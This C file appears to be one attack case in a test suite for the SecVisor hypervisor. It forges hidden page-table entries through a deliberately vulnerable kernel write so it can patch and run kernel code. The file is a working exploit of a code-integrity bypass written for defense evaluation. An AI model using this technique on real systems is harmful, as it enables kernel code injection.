// Row 12. A half-written site executed at an address whose page table lies where no RAM is, so that no walk in software finds it.
// Source: a review of the step over half-written sites (ADR 0006).
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <stdlib.h>
#include <string.h>

static u64 thunk;

// Whether a function ends here: RET, or the jump to it that there is where processors guess wrong.
static int returns(const u8 *code, u64 at)
{
	s32 distance;

	memcpy(&distance, code + 1, 4);
	return *code == 0xc3 || (*code == 0xe9 && thunk && at + 5 + distance == thunk);
}

ATTACK("step-hidden-table")
{
	static u8 text[4096 + 16];
	u64 from = symbol("_stext"), to = symbol("_etext"), page, store = 0, site = 0, offset = 0;
	u64 slot_a, slot_b, x, m, table, low, alias, value;
	unsigned i;
	long got;

	thunk = find_symbol("__x86_return_thunk");
	for (page = from & ~4095ull; page + 4096 < to && !(store && site); page += 4096) {
		kread(page, text, 4096);
		store = site = 0;
		for (i = 0; i < 4080; i++)
			if (!memcmp(text + i, "\x48\x89\x37", 3) && returns(text + i + 3, page + i + 3)) { // mov %rsi, (%rdi)
				store = page + i;
				offset = 0;
			} else if (!memcmp(text + i, "\x48\x89\x77", 3) && text[i + 3] < 0x80 && returns(text + i + 4, page + i + 4)) {
				store = page + i; // mov %rsi, offset(%rdi)
				offset = text[i + 3];
			}
		for (i = 64; i < 4070; i++)
			if (!memcmp(text + i, "\x0f\x1f\x44\x00\x00", 5) && returns(text + i + 5, page + i + 5) && store &&
			    labs((long)(page + i - store)) > 64)
				site = page + i;
	}
	if (!store || !site)
		failed("no such page");
	page = site & ~4095ull;
	m = map_physical(physical(page), KERNEL_DATA);
	alias = m;
	x = (m & ~0x3fffffffull) + 0x20000000;
	while ((kread64(entry_at(x, 21)) & 1) || (kread64(entry_at(x - 0x200000, 21)) & 1))
		x += 0x200000;
	slot_a = entry_at(x - 0x200000, 21);
	slot_b = entry_at(x, 21);
	table = kernel_page();
	low = map_physical(0x9f000, KERNEL_DATA);
	value = physical(page) | KERNEL_CODE;
	operate(VULNERABLE_STORE, low + 0xff8, value, 8);
	operate(VULNERABLE_STORE, table, value, 8);
	operate(VULNERABLE_STORE, slot_a, 0x9f000 | 0x63, 8);
	operate(VULNERABLE_STORE, slot_b, physical(table) | 0x63, 8);
	operate(VULNERABLE_FLUSH, 0, 0, 0);
	kread(site, text, 8);
	memcpy(text, "\xb8\x37\x13\x00\x00", 5); // mov $0x1337, %eax
	memcpy(&value, text, 8);
	about_to("store at %#llx to site %#llx, run it at %#llx", (unsigned long long)store, (unsigned long long)site,
		 (unsigned long long)(x - 4096 + (site & 4095)));
	struct vulnerable_operation op = { .what = VULNERABLE_CALL_WITH, .in = { store, alias + (site & 4095) - offset, value } };
	try_operate(&op);
	got = call(x - 4096 + (site & 4095));
	if (got == 0x1337)
		succeeded("site ran: %#lx", got);
	restored("returned %#lx", got);
}
